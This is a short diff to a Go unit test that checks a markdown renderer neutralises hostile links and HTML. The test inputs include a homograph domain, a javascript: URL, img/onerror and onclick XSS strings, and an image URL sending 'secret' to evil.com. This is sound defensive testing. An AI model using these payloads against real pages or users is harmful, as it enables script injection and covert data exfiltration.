@@ -256,6 +256,7 @@ func TestMarkdownLeadsNowhereUnseen(t *testing.T) {
 		{"[apple](https://\u0430pple.com/)", `<span class="host">(xn--pple-43d.com)</span>`, ""},
 		{"[x](javascript:alert%281%29)", `x <span class="host">(javascript:alert%281%29)</span>`, "href=\"javascript"},
 		{"[x](/logout)", `x <span class="host">(/logout)</span>`, `href="/logout"`},
+		{"[x]: https://evil.com/ \"unseen\"", "[x]: ", ""},
 		{"![pixel](https://evil.com/p.png?q=secret)", `pixel</span> <span class="host">(evil.com)</span>`, "<img"},
 		{"<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "<img"},
 		{"a <b onclick=x>b</b>", "a &lt;b onclick=x&gt;b&lt;/b&gt;", "<b onclick"},
